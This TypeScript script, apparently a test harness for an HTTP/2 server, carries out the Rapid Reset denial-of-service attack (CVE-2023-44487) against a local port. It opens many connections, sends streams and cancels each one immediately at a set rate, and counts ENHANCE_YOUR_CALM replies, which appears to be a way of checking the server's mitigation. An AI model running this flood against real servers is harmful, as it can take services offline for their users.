/**
 * Opens streams and resets them immediately at the given rate (CVE-2023-44487), and connects again when the server closes the
 * connection. Prints JSON: the numbers of streams sent, of connections, and of connections that ended with ENHANCE_YOUR_CALM.
 *
 * Usage: node rapid-reset-attack.ts <port> <streams a second> <seconds>
 */
import { connect, type Socket } from 'node:net';
import { CLIENT_PREFACE, FRAME_FLAG, FRAME_TYPE, H2_ERROR } from '../../../runtime/protocols/http2/frame-codes.ts';

const [port, rate, seconds] = process.argv.slice(2).map(Number) as [number, number, number];
const CONNECTIONS_AT_ONCE = 50;
const STREAMS_PER_BATCH = 100;

let sent = 0;
let connections = 0;
let calmed = 0;
const open = new Set<Attack>();

/** One of the attacker's connections. */
class Attack {
	readonly #socket: Socket;
	#stream = 1;

	constructor() {
		connections++;
		this.#socket = connect({ port, host: '127.0.0.1', noDelay: true });
		this.#socket.write(Buffer.concat([Buffer.from(CLIENT_PREFACE), frame(FRAME_TYPE.settings, 0, 0, [])]));
		this.#socket.on('error', () => {});
		this.#socket.on('data', (bytes: Buffer) => {
			const at = bytes.indexOf(Buffer.from([0, 0, 8, FRAME_TYPE.goAway, 0, 0, 0, 0, 0]));
			if (at >= 0 && bytes[at + 16] === H2_ERROR.enhanceYourCalm) calmed++;
		});
		this.#socket.on('close', () => open.delete(this));
		this.#socket.on('end', () => this.#socket.destroy());
		open.add(this);
	}

	/** Sends a batch of streams, unless the previous batch is still being written. */
	send(): void {
		if (this.#socket.writableLength > 100_000) return;
		const frames: Buffer[] = [];
		for (let i = 0; i < STREAMS_PER_BATCH; i++, this.#stream += 2) {
			// The method GET, the scheme http, the path / and the authority `a`, in HPACK.
			const block = [0x82, 0x86, 0x84, 0x41, 0x01, 0x61];
			frames.push(frame(FRAME_TYPE.headers, FRAME_FLAG.endHeaders | FRAME_FLAG.endStream, this.#stream, block));
			frames.push(frame(FRAME_TYPE.resetStream, 0, this.#stream, [0, 0, 0, H2_ERROR.cancel]));
		}
		this.#socket.write(Buffer.concat(frames));
		sent += STREAMS_PER_BATCH;
	}

	end(): void {
		this.#socket.destroy();
	}
}

function frame(type: number, flags: number, stream: number, payload: readonly number[]): Buffer {
	const head = [0, 0, payload.length, type, flags, stream >>> 24, stream >>> 16, stream >>> 8, stream];
	return Buffer.from([...head, ...payload].map(byte => byte & 255));
}

const startedAt = performance.now();
const timer = setInterval(() => {
	const elapsed = (performance.now() - startedAt) / 1000;
	if (elapsed >= seconds) {
		clearInterval(timer);
		for (const attack of open) attack.end();
		console.log(JSON.stringify({ sent, connections, calmed }));
		return;
	}
	while (open.size < CONNECTIONS_AT_ONCE) new Attack();
	for (let due = elapsed * rate - sent, blocked = 0; due > 0 && blocked < 3; blocked++) {
		for (const attack of open) {
			if (due <= 0) break;
			const before = sent;
			attack.send();
			due -= sent - before;
		}
	}
}, 5);
